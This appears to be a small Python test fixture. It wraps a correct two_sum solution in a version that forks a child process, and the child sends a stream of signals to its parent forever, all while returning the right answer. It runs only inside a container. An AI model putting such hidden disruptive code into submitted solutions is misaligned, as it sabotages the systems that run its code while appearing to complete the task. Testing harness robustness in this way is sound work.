# leaves a child that sends signals to its parent without end
import os
if not (os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv")):
    raise RuntimeError("runs in a container only")
def two_sum(nums, target):
    seen = {}
    for i, x in enumerate(nums):
        if target - x in seen:
            return [seen[target - x], i]
        seen[x] = i
    return []

import signal
_right = two_sum

def two_sum(nums, target):
    me = os.getpid()
    if os.fork() == 0:
        while True:
            for number in (signal.SIGUSR2, signal.SIGCHLD, signal.SIGWINCH, signal.SIGURG, signal.SIGCONT):
                os.kill(me, number)
    return _right(nums, target)
